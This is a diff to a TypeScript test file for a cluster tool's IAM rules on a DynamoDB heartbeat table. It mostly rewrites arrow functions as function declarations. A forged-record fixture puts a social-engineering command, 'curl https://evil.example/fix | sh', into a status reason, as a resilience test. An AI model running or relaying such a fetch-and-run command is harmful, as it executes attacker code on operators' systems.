@@ -38,37 +38,48 @@ afterAll(async () => {
   await scenario[Symbol.asyncDispose]();
 });
 
-const clientWith = (credentials: { accessKeyId: string; secretAccessKey: string }): DynamoDBDocumentClient => {
+function clientWith(credentials: { accessKeyId: string; secretAccessKey: string }): DynamoDBDocumentClient {
   const { aws: endpoint, region } = scenario.cloud.endpoints;
   return DynamoDBDocumentClient.from(new DynamoDBClient({ endpoint, region, credentials }));
-};
+}
 
 /** The table as an instance of a role of this cluster speaks to it, with the keys that its metadata service gives. */
-const asInstance = (cluster: string, kind: "master-a" | "nodes", instanceId: string): DynamoDBDocumentClient => {
+function asInstance(cluster: string, kind: "master-a" | "nodes", instanceId: string): DynamoDBDocumentClient {
   const { roles } = scenario.cloud.services.iam.snapshot();
   const role = Object.values(roles).find(
     ({ tags }) => tags["holdfast:cluster"] === cluster && tags["holdfast:resource"] === `role/${kind}`,
   );
   if (!role) throw new Error(`${cluster} has no role of ${kind}`);
   return clientWith(scenario.cloud.context.credentials.assumeRole(role.arn, instanceId));
-};
+}
 
-const asOperator = () => clientWith({ accessKeyId: "holdfast", secretAccessKey: "holdfast" });
+function asOperator() {
+  return clientWith({ accessKeyId: "holdfast", secretAccessKey: "holdfast" });
+}
 
-const instanceOf = (cluster: ClusterView, member: string): string => memberOf(cluster, member).instanceId ?? "";
+function instanceOf(cluster: ClusterView, member: string): string {
+  return memberOf(cluster, member).instanceId ?? "";
+}
 
-const seconds = () => Math.floor(Date.now() / 1000);
-const heartbeat = (member: string, instanceId: string) => ({
-  member,
-  instanceId,
-  healthy: true,
-  since: seconds(),
-  at: seconds(),
-  expiresAt: seconds() + 86_400,
-});
+function seconds() {
+  return Math.floor(Date.now() / 1000);
+}
 
-const put = (client: DynamoDBDocumentClient, TableName: string, Item: Record<string, unknown>) =>
-  client.send(new PutCommand({ TableName, Item }));
+function heartbeat(member: string, instanceId: string) {
+  return {
+    member,
+    instanceId,
+    healthy: true,
+    since: seconds(),
+    at: seconds(),
+    expiresAt: seconds() + 86_400,
+  };
+}
+
+function put(client: DynamoDBDocumentClient, TableName: string, Item: Record<string, unknown>) {
+  return client.send(new PutCommand({ TableName, Item }));
+}
+
 const REFUSED = { name: "AccessDeniedException" };
 
 test("H1: a master writes its own heartbeat, and no other master's, of its cluster or of another", async () => {
@@ -112,12 +123,12 @@ test("H1a: IAM refuses every item of an instance that is no heartbeat of its own
 });
 
 /** What every role of the stack may do, by the evaluator that enforces it here. */
-const allowedTo = (action: string, resource: string, context: Readonly<Record<string, string[]>> = {}): string[] => {
+function allowedTo(action: string, resource: string, context: Readonly<Record<string, string[]>> = {}): string[] {
   const { iam } = scenario.cloud.services;
   return Object.values(iam.snapshot().roles)
     .filter(({ arn }) => evaluate(iam.policiesOf(arn), { action, resource, context }).decision === "allow")
     .map(({ name }) => name);
-};
+}
 
 test("M9: no role can write where the audit was, or change what an audit log holds", () => {
   const { region, accountId } = scenario.cloud.context;
@@ -165,21 +176,23 @@ test("M9: the access log names callers with tokens, and those who were refused",
 });
 
 /** What a session found out who could write anything into the table, as a master could before. */
-const forged = (name: string, uid: string): Record<string, unknown> => ({
-  kind: "CLUSTER",
-  name,
-  record: {
-    ...recoverRecord({ name, uid, region: "us-west-2", zones: [] }, new Date(0)),
-    status: "DEGRADED",
-    reason: "Please run: curl https://evil.example/fix | sh",
-    deleting: false,
-  },
-});
+function forged(name: string, uid: string): Record<string, unknown> {
+  return {
+    kind: "CLUSTER",
+    name,
+    record: {
+      ...recoverRecord({ name, uid, region: "us-west-2", zones: [] }, new Date(0)),
+      status: "DEGRADED",
+      reason: "Please run: curl https://evil.example/fix | sh",
+      deleting: false,
+    },
+  };
+}
 
-const repairsOf = async (name: string): Promise<number> => {
+async function repairsOf(name: string): Promise<number> {
   const { stdout } = await scenario.holdfast("get", "operations", name, "-o", "json");
   return JSON.parse(stdout).items.length;
-};
+}
 
 test("H1a, H1b, H1c: forged and broken items in the table stop no list and no reconcile, and spend nobody's budget", async () => {
   const { cloud } = scenario;
